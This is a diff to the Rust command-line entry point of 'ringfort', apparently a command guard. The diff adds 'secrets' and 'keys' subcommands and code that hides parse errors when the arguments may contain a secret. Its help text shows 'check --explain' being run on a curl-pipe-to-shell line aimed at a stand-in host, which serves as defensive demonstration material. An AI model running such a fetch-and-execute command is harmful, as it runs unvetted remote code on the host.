@@ -13,11 +13,13 @@ pub(crate) mod completions;
 pub(crate) mod doctor;
 pub(crate) mod freeze;
 pub(crate) mod hook;
+pub(crate) mod keys;
 pub(crate) mod man;
 pub(crate) mod policy;
 pub(crate) mod providers;
 pub(crate) mod run;
 pub(crate) mod scan;
+pub(crate) mod secrets;
 pub(crate) mod setup;
 pub(crate) mod trail;
 
@@ -60,6 +62,7 @@ const EXAMPLES: &str = "Examples:
   ringfort check --explain -- 'curl -s https://x.example/i.sh | sh'
   ringfort trail tail                         what happened
   ringfort trail verify                       whether the record is whole
+  ringfort run --secret github.token -- gh pr list    with a stored secret: `ringfort secrets`
   ringfort doctor                             what this host enforces, proven
 
 Exit status: 0 allowed or clean, 1 denied or findings, 2 usage or bad input, 3 the guard failed, 4 `check` would ask.
@@ -89,6 +92,8 @@ pub(crate) enum Sub {
     Changes(changes::ChangesArgs),
     Check(check::CheckArgs),
     Scan(scan::ScanArgs),
+    Secrets(secrets::SecretsArgs),
+    Keys(keys::KeysArgs),
     Trail(trail::TrailArgs),
     Approvals(approvals::ApprovalsArgs),
     Policy(policy::PolicyArgs),
@@ -111,6 +116,10 @@ pub(crate) fn main() -> ExitCode {
     let cli = match Cli::try_parse() {
         Ok(cli) => cli,
         Err(error) => {
+            let words: Vec<OsString> = std::env::args_os().skip(1).collect();
+            if error.use_stderr() && secrets::may_hold_value(&words) {
+                return finish(Err(secrets::unshown()));
+            }
             let status = if error.use_stderr() { EXIT_USAGE } else { EXIT_OK };
             // Nobody is left to tell if the message cannot be printed.
             drop(error.print());
@@ -127,6 +136,8 @@ pub(crate) fn main() -> ExitCode {
         Sub::Changes(args) => changes::run(&args, &common),
         Sub::Check(args) => check::run(&args, &common),
         Sub::Scan(args) => scan::run(&args),
+        Sub::Secrets(args) => secrets::run(&args, &common),
+        Sub::Keys(args) => keys::run(&args, &common),
         Sub::Trail(args) => trail::run(&args, &common),
         Sub::Approvals(args) => approvals::run(&args, &common),
         Sub::Policy(args) => policy::run(&args, &common),
